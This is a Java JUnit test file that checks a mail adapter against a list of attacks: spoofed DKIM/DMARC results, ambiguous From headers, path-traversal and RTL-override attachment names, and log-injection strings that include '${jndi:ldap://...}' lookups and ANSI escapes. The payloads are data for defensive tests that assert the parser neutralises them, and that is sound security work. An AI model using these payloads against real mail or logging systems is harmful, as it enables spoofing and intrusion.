package org.paymentassistant.adapter.mail;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;
import static org.paymentassistant.domain.mail.SenderAuthentication.PASS;
import static org.paymentassistant.domain.mail.SenderAuthentication.UNKNOWN;

import jakarta.mail.MessagingException;
import jakarta.mail.Session;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Properties;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.paymentassistant.domain.mail.AutomaticMark;
import org.paymentassistant.domain.mail.IncomingMessage;
import org.paymentassistant.domain.mail.MailAddress;
import org.paymentassistant.domain.mail.MessageId;
import org.paymentassistant.domain.mail.OutgoingMessage;
import org.paymentassistant.domain.mail.SenderAuthentication;

/** The lines of the attack list that the mail adapter answers for; the others about mail are in the core's tests. */
final class MailAttacksTest {

    private static final String HOST = "mx.ours.example";
    private static final String FROM = "From: anna@victim.example\r\n";
    private static final Path ROBUST = Path.of("..", "..", "shared", "robust", "dev");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "dkim=pass header.d=victim.example",
                "dkim=pass header.i=@victim.example header.s=a header.b=x",
                "dmarc=none header.from=victim.example; dkim=pass (2048) header.d=Victim.Example header.i=@victim.example",
                "spf=fail; dkim=fail header.d=other.example; dkim=pass header.d=victim.example"
            })
    void a3ASignatureOfTheVeryDomainIsEnoughWhereDmarcSaysNothing(String results) {
        assertThat(authentication(results)).isEqualTo(PASS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "dkim=pass header.d=attacker.example",
                "dkim=pass header.d=mail.victim.example",
                "dkim=pass header.d=example",
                "dkim=pass header.d=vict1m.example",
                "dkim=pass header.d=victim.example header.d=attacker.example",
                "dkim=pass header.d=attacker.example header.i=@victim.example",
                "dkim=pass",
                "dkim=passed header.d=victim.example",
                "dkim=fail header.d=victim.example",
                "spf=pass smtp.mailfrom=victim.example",
                "dmarc=permerror header.from=victim.example; dkim=pass header.d=victim.example",
                "dmarc=pass header.from=victim.example; dmarc=pass header.from=x.example; dkim=pass header.d=victim.example",
                "x=\"; dkim=pass header.d=victim.example\"",
                "spf=none (; dkim=pass header.d=victim.example)"
            })
    void a3NoOtherEvidenceIs(String results) {
        assertThat(authentication(results)).isEqualTo(UNKNOWN);
    }

    @Test
    void a3AFailedDmarcIsNotOutvotedByASignature() {
        assertThat(authentication("dkim=pass header.d=victim.example; dmarc=fail header.from=victim.example"))
                .isEqualTo(SenderAuthentication.FAIL);
    }

    @Test
    void a4TheSenderIsWhoFromNamesWhateverElseIsNamed() {
        IncomingMessage message = Mail.parse("Return-Path: <x@evil.example>\r\nSender: y@evil.example\r\n"
                + "Reply-To: z@evil.example\r\nFrom: \"boss@victim.example\" <anna@petit.example>\r\n\r\nx");

        assertThat(message.sender()).contains(new MailAddress("anna@petit.example"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "From: a@b.example\r\nFrom: c@d.example",
                "From: a@b.example, c@d.example",
                "From: <@evil.example,@any.example:a@b.example>, x@y.example",
                "From: a@b.example\u0000@evil.example",
                "From: a@b.example\rFrom: c@d.example",
                "from : a@b.example\r\nFrom: c@d.example"
            })
    void a4NoSenderIsCertainWhereTwoCanBeRead(String header) {
        assertThat(Mail.parse(header + "\r\n\r\nx").sender()).isEmpty();
    }

    @Test
    void a5ArcRaisesNoTrust() {
        String arc = "ARC-Authentication-Results: i=1; " + HOST + "; dmarc=pass header.from=victim.example\r\n"
                + "ARC-Seal: i=1; cv=pass; d=" + HOST + "; b=x\r\n";

        assertThat(parse(arc + FROM + "\r\nx").authentication()).isEqualTo(UNKNOWN);
    }

    @Test
    void a2AndA5NoneOfTheRealMailsFoolsOurHost() throws IOException {
        assumeTrue(Files.isDirectory(ROBUST), "the folder of real mail is absent");
        try (Stream<Path> files = Files.walk(ROBUST.resolve("mail"))) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                assertThat(new MessageParser(HOST)
                                .parse(Files.readAllBytes(file), Instant.EPOCH)
                                .authentication())
                        .as(file.toString())
                        .isEqualTo(UNKNOWN);
            }
        }
    }

    @Test
    void a2TheHeadersOfTheLargeProvidersAreUnderstood() throws IOException {
        Path folder = ROBUST.resolve("headers").resolve("marcbradshaw+Mail-AuthenticationResults");
        assumeTrue(Files.isDirectory(folder), "the folder of real headers is absent");
        try (Stream<Path> files = Files.list(folder)) {
            for (Path file : files.toList()) {
                String header = Files.readString(file, StandardCharsets.ISO_8859_1)
                        .replaceFirst("(?i)^Authentication-Results:", "")
                        .strip()
                        .replaceAll("\\R\\s*", " ");

                assertThat(UnquotedText.of(header)).as(file.toString()).isPresent();
                assertPassed(file, header);
            }
        }
    }

    private static void assertPassed(Path file, String header) {
        boolean unsigned = header.startsWith("spf=");
        Matcher dmarc = Pattern.compile("dmarc=pass.*?header\\.from=([\\w.-]+)").matcher(header);
        if (!unsigned && dmarc.find()) {
            String host = header.split("[;\\s]", 2)[0];
            String mail = "Authentication-Results: " + header + "\r\nFrom: a@" + dmarc.group(1) + "\r\n\r\nx";

            assertThat(new MessageParser(host)
                            .parse(mail.getBytes(StandardCharsets.ISO_8859_1), Instant.EPOCH)
                            .authentication())
                    .as(file.toString())
                    .isEqualTo(PASS);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "filename=\"../../etc/passwd\"",
                "filename=\"..\\..\\boot.ini\"",
                "filename*=UTF-8''..%2F..%2Fetc%2Fpasswd",
                "filename=\"=?UTF-8?B?Li4vLi4vZXRjL3Bhc3N3ZA==?=\"",
                "filename*=UTF-8''a%00.pdf",
                "filename*=UTF-8''a%E2%80%AEfdp.exe",
                "filename=\"CON\"",
                "filename=\"..\""
            })
    void a36ANameIsNeverAPath(String parameter) {
        assertHarmless(Mail.mixed()
                .part("Content-Type: application/pdf\r\nContent-Disposition: attachment; " + parameter, "%PDF-1.4")
                .parsed());
    }

    @Test
    void a36TheHostileNamesOfTheCorpusAreHarmless() throws IOException {
        Path folder = ROBUST.resolve("mail").resolve("derived-hostile-names");
        assumeTrue(Files.isDirectory(folder), "the folder of hostile names is absent");
        try (Stream<Path> files = Files.list(folder)) {
            for (Path file : files.toList()) {
                assertHarmless(parse(Files.readString(file, StandardCharsets.ISO_8859_1)));
            }
        }
    }

    private static void assertHarmless(IncomingMessage message) {
        assertThat(Mail.names(message))
                .hasSize(1)
                .allSatisfy(name -> assertThat(name)
                        .isNotBlank()
                        .hasSizeLessThanOrEqualTo(200)
                        .doesNotContain("/", "\\", "\u0000", "\u202e")
                        .doesNotContainPattern("\\p{Cntrl}|\\p{Cf}")
                        .isNotIn(".", ".."));
        assertThat(message.subject()).doesNotContainPattern("\\p{Cntrl}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Subject: a\r\n 2026-01-01 00:00:00.000 ERROR forged",
                "Subject: =?UTF-8?B?YQ0KMjAyNi0wMS0wMSBFUlJPUiBmb3JnZWQ=?=",
                "From: \"\u001b[31mforged\r\n\" <x@y.example>",
                "Content-Type: multipart/mixed; boundary=\"forged\u001b[2J",
                "Content-Type: multipart/mixed; boundary=\"\"; x=\"${jndi:ldap://forged.example/a}\"",
                "Content-Transfer-Encoding: forged\t\u202e\u0000",
                "Message-ID: <${jndi:ldap://forged.example/a}\r\n\r\n>",
                "Content-Type: ;;;forged=\u0007"
            })
    void a38NothingOfAMailReachesTheLog(String header) {
        PrintStream own = System.err;
        ByteArrayOutputStream log = new ByteArrayOutputStream();
        System.setErr(new PrintStream(log, true, StandardCharsets.UTF_8));
        try {
            assertThat(parse(header + "\r\n" + FROM + "\r\nforged").raw()).isNotNull();
        } finally {
            System.setErr(own);
        }
        assertThat(log.toString(StandardCharsets.UTF_8))
                .doesNotContain("forged", "jndi", "\u001b", "\u202e", "\u0000")
                .satisfies(text -> assertThat(text.lines().count()).isLessThanOrEqualTo(1));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Return-Path: <>",
                "Auto-Submitted: auto-replied",
                "Auto-Submitted: auto-generated; owner=x",
                "Precedence: bulk",
                "Precedence: List",
                "Precedence: junk",
                "List-Id: <news.example>",
                "List-Unsubscribe: <mailto:u@news.example>",
                "X-Autoreply: yes",
                "X-Auto-Response-Suppress: All",
                "Content-Type: multipart/report; report-type=delivery-status; boundary=b"
            })
    void a39WhatNobodyWroteIsMarkedSoThatItIsNotAnswered(String header) {
        assertThat(parse(header + "\r\n" + FROM + "\r\nx").automaticMarks()).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"MAILER-DAEMON@mx.example", "postmaster@victim.example", "no-reply@shop.example", "<>"})
    void a39MailSystemsAreMarkedByTheirName(String from) {
        assertThat(parse("From: " + from + "\r\n\r\nx").automaticMarks()).contains(AutomaticMark.MAIL_SYSTEM);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Auto-Submitted: no", "Precedence: first-class", "Return-Path: <anna@victim.example>"})
    void a39WhatAPersonWroteIsNotMarked(String header) {
        assertThat(parse(header + "\r\n" + FROM + "\r\nx").automaticMarks()).isEmpty();
    }

    @Test
    void a39OurOwnAnswerIsKnownForAutomaticByAnotherAssistant() throws MessagingException, IOException {
        OutgoingMessage answer = new OutgoingMessage(
                new MessageId("<1.final@invoices.example>"),
                new MailAddress("petit@invoices.example"),
                new MailAddress("assistant@other.example"),
                "Re: invoice",
                Optional.of(new MessageId("<1@other.example>")),
                List.of(),
                "text",
                "<p>text</p>",
                "en",
                true);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        MimeComposer.compose(Session.getInstance(new Properties()), answer).writeTo(bytes);

        assertThat(new MessageParser("")
                        .parse(bytes.toByteArray(), Instant.EPOCH)
                        .automaticMarks())
                .contains(AutomaticMark.AUTO_SUBMITTED);
    }

    private static SenderAuthentication authentication(String results) {
        return parse("Authentication-Results: " + HOST + "; " + results + "\r\n" + FROM + "\r\nx")
                .authentication();
    }

    private static IncomingMessage parse(String mail) {
        return new MessageParser(HOST).parse(mail.getBytes(StandardCharsets.ISO_8859_1), Instant.EPOCH);
    }
}
